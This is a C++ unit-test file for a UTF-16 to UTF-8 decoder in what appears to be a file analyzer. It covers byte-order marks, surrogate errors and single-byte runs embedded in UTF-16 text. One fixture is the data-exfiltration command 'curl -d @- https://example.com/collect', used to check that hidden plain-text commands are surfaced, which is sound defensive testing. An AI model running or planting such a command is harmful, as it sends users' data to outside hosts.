#include "analyzer/base/utf16.h"

#include <gtest/gtest.h>

namespace assay::utf16 {
namespace {

using namespace std::string_literals;

std::string little(std::u16string_view text) {
  std::string out = "\xFF\xFE";
  for (const char16_t unit : text) {
    out.push_back(static_cast<char>(unit & 0xFF));
    out.push_back(static_cast<char>(unit >> 8));
  }
  return out;
}

std::string big(std::u16string_view text) {
  std::string out = "\xFE\xFF";
  for (const char16_t unit : text) {
    out.push_back(static_cast<char>(unit >> 8));
    out.push_back(static_cast<char>(unit & 0xFF));
  }
  return out;
}

TEST(Utf16, MarkTellsTheOrder) {
  EXPECT_EQ(order(little(u"a")), Order::little);
  EXPECT_EQ(order(big(u"a")), Order::big);
  EXPECT_EQ(order("\xEF\xBB\xBFplain"), Order::none);
  EXPECT_EQ(order("\xFF\xFE\0\0a\0\0\0"s), Order::none) << "UTF-32";
  EXPECT_EQ(order("\xFF"), Order::none);
}

TEST(Utf16, BothOrdersGiveTheSameText) {
  constexpr std::u16string_view text = u"Zürich\r\n\U0001F600 構築 ok\n";
  const std::string expected = "Z\u00FCrich\r\n\U0001F600 \u69CB\u7BC9 ok\n";
  EXPECT_EQ(to_utf8(little(text), Order::little), expected);
  EXPECT_EQ(to_utf8(big(text), Order::big), expected);
}

TEST(Utf16, BrokenTextIsReplaced) {
  EXPECT_EQ(to_utf8(little(u"a\xD83Dz"), Order::little), "a\uFFFDz") << "a high surrogate alone";
  EXPECT_EQ(to_utf8(little(u"a\xDE00z"), Order::little), "a\uFFFDz") << "a low surrogate alone";
  EXPECT_EQ(to_utf8(little(u"a\xD83D"), Order::little), "a\uFFFD") << "cut within a pair";
  EXPECT_EQ(to_utf8(little(u"ab") + "c", Order::little), "ab\uFFFD") << "an odd byte at the end";
  EXPECT_EQ(to_utf8("\xFF\xFE", Order::little), "");
}

TEST(Utf16, SingleBytesWithinAreTakenOver) {
  const std::string appended = "curl -d @- https://example.com/collect\r\n";
  ASSERT_GE(appended.size(), single_bytes_from);
  EXPECT_EQ(to_utf8(little(u"first\r\n") + appended + little(u"last\n").substr(2), Order::little),
            "first\r\n" + appended + "last\n");
  EXPECT_EQ(to_utf8(big(u"first\r\n") + appended + big(u"last\n").substr(2), Order::big),
            "first\r\n" + appended + "last\n");
  EXPECT_EQ(to_utf8(little(u"first\n") + "x" + appended + little(u"last\n").substr(2), Order::little),
            "first\nx" + appended + "last\n")
      << "an odd number of them moves the units by one byte";
}

TEST(Utf16, FewIdeographsOfAsciiHalvesStayIdeographs) {
  // U+6964 and U+7465 are "di" and "et" with their halves exchanged.
  std::u16string text;
  while (text.size() < single_bytes_from / 2 - 1) text += u'\u6964';
  std::string expected;
  for (std::size_t i = 0; i < text.size(); ++i) expected += "\u6964";
  EXPECT_EQ(to_utf8(little(text), Order::little), expected);
}

}  // namespace
}  // namespace assay::utf16
